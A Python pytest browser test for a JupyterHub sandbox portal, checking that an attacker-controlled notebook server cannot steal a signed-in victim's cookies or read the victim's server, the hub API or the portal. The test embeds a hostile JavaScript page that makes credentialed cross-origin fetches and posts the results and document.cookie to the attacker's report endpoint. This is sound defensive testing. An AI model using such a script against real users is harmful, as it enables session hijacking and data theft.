"""A notebook user controls everything that answers on their server's address: a config file, an
extension, or simply another process on its port. Here that user is hostile. Their "server" is a
process that records every request and serves a page that tries to read the victim's notebook
and the hub; it sits behind the real proxy, on the route the hub gives the attacker's server.

The victim is signed in to the portal, to the hub and to their own running sandbox (a real
container) in a real Chromium, then opens a link to the attacker's server. They must send it no
cookie of the portal, of the hub's login, or of their own server, and the attacker's page must
not read the victim's server or the hub's API as the victim.
"""

from __future__ import annotations

import json
import secrets
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import httpx
import pytest
from django.conf import settings as django_settings

from tests.browser.conftest import chromium
from tests.sandboxes.launcher.helpers import funded_student

from .conftest import hub_sign_in_allowed
from .journeys import sandbox_running, signed_in_to_sandbox

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.browser]

# What the hostile page tries, with the victim's browser, once it has loaded.
HOSTILE_PAGE = """<!DOCTYPE html><title>free GPUs</title><script>
async function attempt(url) {
  try {
    const response = await fetch(url, {credentials: "include"});
    return "read " + response.status + " " + (await response.text()).slice(0, 200);
  } catch (error) {
    return "blocked";
  }
}
(async () => {
  const report = {
    victim_server: await attempt(%(victim_server)s),
    hub_api: await attempt(%(hub_api)s),
    portal: await attempt(%(portal)s),
    cookies: document.cookie,
  };
  await fetch("report", {method: "POST", body: JSON.stringify(report)});
})();
</script>"""


class HostileServer:
    """What answers on the attacker's server address: it records every request it receives."""

    def __init__(self, page: str):
        self.requests: list[dict] = []
        self.reported = threading.Event()
        self.report: dict = {}
        hostile = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self):
                hostile.requests.append(
                    {"method": self.command, "path": self.path, "headers": dict(self.headers)}
                )

            def do_GET(self):
                self._record()
                body = page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self):
                self._record()
                length = int(self.headers.get("Content-Length") or 0)
                hostile.report = json.loads(self.rfile.read(length) or b"{}")
                hostile.reported.set()
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def cookie_names(self) -> set[str]:
        names = set()
        for request in self.requests:
            for part in (request["headers"].get("Cookie") or "").split(";"):
                if "=" in part:
                    names.add(part.split("=", 1)[0].strip())
        return names

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def _attacker_route(stack, attacker: str, server: str, target: str) -> str:
    """Point the proxy's route for the attacker's server at `target`, as the hub does for a
    server that started (only the process behind it differs): returns the server's URL."""
    with stack.client() as hub:
        assert hub.post(f"/users/{attacker}").status_code in (201, 409)
    url = stack.server_url(attacker, server)
    host, path = urlsplit(url).hostname, urlsplit(url).path
    # the proxy routes by host with subdomain_host, by path alone without
    routespec = path if host == urlsplit(stack.public_url).hostname else host + path
    token = (stack.data_dir / "proxy-auth-token").read_text().strip()
    added = httpx.post(
        f"http://127.0.0.1:{stack.proxy_api_port}/api/routes/{routespec}",
        headers={"Authorization": f"token {token}"},
        json={"target": target, "user": attacker, "server_name": server},
        timeout=10,
    )
    assert added.status_code == 201, added.text
    return url


def test_a_hostile_server_gets_no_cookie_of_the_victim_and_reads_nothing_of_theirs(
    stack, portal_server, settings, monkeypatch
):
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")  # ORM calls beside Playwright's loop
    hub_sign_in_allowed(stack, settings)
    # given a victim with a running sandbox (a real container behind the real proxy)
    victim = funded_student()
    running, _sandbox, victim_server_url = sandbox_running(stack, victim)

    # and an attacker whose server address answers with a process of their own
    attacker = f"mallory-{secrets.token_hex(3)}"
    hostile = HostileServer(
        HOSTILE_PAGE
        % {
            "victim_server": json.dumps(f"{victim_server_url}api/contents"),
            "hub_api": json.dumps(f"{stack.api_url}/user"),
            "portal": json.dumps(f"{portal_server.url}/api/v1/me"),
        }
    )
    try:
        hostile_url = _attacker_route(stack, attacker, "sb-free-gpus", hostile.url)
        # the three parties are three origins: the portal, the victim's servers, the attacker's
        hosts = {urlsplit(u).hostname for u in (portal_server.url, victim_server_url, hostile_url)}
        assert len(hosts | {urlsplit(stack.public_url).hostname}) == 4, hosts

        with chromium() as browser:
            context = browser.new_context(base_url=portal_server.url, locale="en-GB")
            context.set_default_timeout(30_000)
            page = context.new_page()
            # the victim signs in to the portal, then opens their sandbox (single sign-on
            # into the hub) and lands in JupyterLab
            signed_in_to_sandbox(page, victim, running, victim_server_url)
            held = {cookie["name"]: cookie for cookie in context.cookies()}
            # so the browser now holds every cookie worth stealing (else this proves nothing)
            portal_cookie = django_settings.SESSION_COOKIE_NAME
            hub_login = "jupyterhub-hub-login"
            own_server = [name for name in held if name.startswith("jupyterhub-user-")]
            assert portal_cookie in held, sorted(held)
            assert hub_login in held, sorted(held)
            assert own_server, sorted(held)

            # when the victim follows a link to the attacker's server
            page.goto(hostile_url)
            assert hostile.reported.wait(timeout=30), "the hostile page never reported"
            context.close()
    finally:
        hostile.close()

    # then it received none of the victim's cookies: not the portal's session or CSRF cookie,
    # not the hub's login, not the victim's own server's
    received = hostile.cookie_names()
    stolen = received & {portal_cookie, django_settings.CSRF_COOKIE_NAME, hub_login, *own_server}
    assert not stolen, (received, hostile.requests)
    assert not any(name.startswith("jupyterhub-user-") for name in received), received
    # and its page, running in the victim's browser, read nothing of theirs
    report = hostile.report
    assert report["victim_server"] == "blocked", report
    assert report["hub_api"] == "blocked", report
    assert report["portal"] == "blocked", report
    assert portal_cookie not in report["cookies"]
    assert hub_login not in report["cookies"]
    assert "jupyterhub-user-" not in report["cookies"]
